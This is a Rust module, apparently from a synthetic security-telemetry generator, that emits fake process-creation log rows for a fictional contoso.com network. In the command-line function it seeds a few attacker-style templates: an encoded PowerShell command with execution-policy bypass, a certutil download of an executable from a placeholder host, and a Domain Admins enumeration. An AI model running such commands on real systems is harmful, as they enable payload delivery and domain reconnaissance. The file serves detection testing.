//! DeviceProcessEvents: starts of processes with their command lines, a few of them suspicious.

use super::{time_of, user_name};
use crate::random::{Random, guid_of, hex_of};
use crate::row::Row;

const PROCESSES: [(&str, &str); 10] = [
    ("svchost.exe", "C:\\Windows\\System32"),
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application"),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"),
    ("cmd.exe", "C:\\Windows\\System32"),
    ("msbuild.exe", "C:\\Program Files\\Microsoft Visual Studio\\2022\\MSBuild\\Current\\Bin"),
    ("rundll32.exe", "C:\\Windows\\System32"),
    ("Teams.exe", "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current"),
    ("git.exe", "C:\\Program Files\\Git\\cmd"),
    ("certutil.exe", "C:\\Windows\\System32"),
    ("reg.exe", "C:\\Windows\\System32"),
];

fn command_line(random: &mut Random, file: &str, folder: &str) -> String {
    match file {
        "powershell.exe" if random.chance(4) => {
            format!("powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand {}", random.hex(120))
        }
        "powershell.exe" => format!(
            "\"{folder}\\powershell.exe\" -NoLogo -File \"C:\\Scripts\\task{}.ps1\" -Server srv{:03}",
            random.below(900),
            random.below(400)
        ),
        "certutil.exe" if random.chance(20) => format!(
            "certutil.exe -urlcache -split -f https://cdn{}.example/{}.bin C:\\Temp\\{}.exe",
            random.below(500),
            random.hex(12),
            random.hex(6)
        ),
        "cmd.exe" if random.chance(2) => {
            format!("cmd.exe /c whoami /all & net group \"Domain Admins\" /domain > C:\\Temp\\{}.txt", random.hex(6))
        }
        "chrome.exe" => format!(
            "\"{folder}\\{file}\" --type=renderer --field-trial-handle={} --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id={} --time-ticks-at-unix-epoch=-{} --launch-time-ticks={} --mojo-platform-channel-handle={}",
            random.hex(16),
            random.below(900),
            random.below(1 << 40),
            random.below(1 << 40),
            random.below(9000)
        ),
        "svchost.exe" => {
            format!("{file} -k netsvcs -p -s {}", random.pick(&["Schedule", "wuauserv", "BITS", "Winmgmt", "AppInfo"]))
        }
        _ => format!(
            "\"{folder}\\{file}\" /quiet /log:C:\\Logs\\{}.log /job {} /target build{}",
            random.hex(10),
            random.guid(),
            random.below(3000)
        ),
    }
}

pub fn row(random: &mut Random, row: u64, rows: u64, to: &mut dyn Row) {
    let time = time_of(random, row, rows);
    let device = random.skewed(5_000);
    let user = random.skewed(20_000);
    let index = random.skewed(10) as usize;
    let (file, folder) = PROCESSES.get(index).copied().unwrap_or_default();
    let (parent, parent_folder) = PROCESSES.get(random.below(10) as usize).copied().unwrap_or_default();
    let program = index as u64 * 7 + random.below(5);
    to.time("Timestamp", time);
    to.text("DeviceId", &hex_of(device, 40));
    to.text("DeviceName", &format!("host{device:05}.corp.contoso.com"));
    to.text("ActionType", "ProcessCreated");
    to.text("FileName", file);
    to.text("FolderPath", &format!("{folder}\\{file}"));
    to.text("SHA1", &hex_of(program, 40));
    to.text("SHA256", &hex_of(program + 1000, 64));
    to.text("MD5", &hex_of(program + 2000, 32));
    to.number("FileSize", 10_000 + (program * 7919) as i64);
    to.text("ProcessVersionInfoCompanyName", random.pick(&["Microsoft Corporation", "Google LLC", ""]));
    to.number("ProcessId", random.below(60_000) as i64);
    let line = command_line(random, file, folder);
    to.text("ProcessCommandLine", &line);
    to.text("ProcessIntegrityLevel", random.pick(&["Medium", "High", "System", "Low"]));
    to.text("ProcessTokenElevation", random.pick(&["TokenElevationTypeDefault", "TokenElevationTypeFull"]));
    to.time("ProcessCreationTime", time - random.below(1_000_000) as i64);
    to.text("AccountDomain", "contoso");
    to.text("AccountName", &user_name(user));
    to.text("AccountSid", &format!("S-1-5-21-1004336348-1177238915-682003330-{}", 1000 + user));
    to.text("AccountUpn", &format!("{}@contoso.com", user_name(user)));
    to.text("AccountObjectId", &guid_of(user));
    to.number("LogonId", random.below(1 << 32) as i64);
    to.text("InitiatingProcessAccountName", &user_name(user));
    to.text("InitiatingProcessFileName", parent);
    to.text("InitiatingProcessFolderPath", &format!("{parent_folder}\\{parent}"));
    to.number("InitiatingProcessId", random.below(60_000) as i64);
    let line = command_line(random, parent, parent_folder);
    to.text("InitiatingProcessCommandLine", &line);
    to.time("InitiatingProcessCreationTime", time - random.below(9_000_000_000) as i64);
    to.text("InitiatingProcessParentFileName", random.pick(&["explorer.exe", "services.exe", "userinit.exe"]));
    to.number("InitiatingProcessParentId", random.below(60_000) as i64);
    to.number("ReportId", random.below(1 << 31) as i64);
    to.json(
        "AdditionalFields",
        &format!(
            r#"{{"ProcessCreationFlags":{},"Signed":{},"Zone":"{}"}}"#,
            random.below(64),
            random.chance(80),
            random.pick(&["Local", "Internet"])
        ),
    );
}
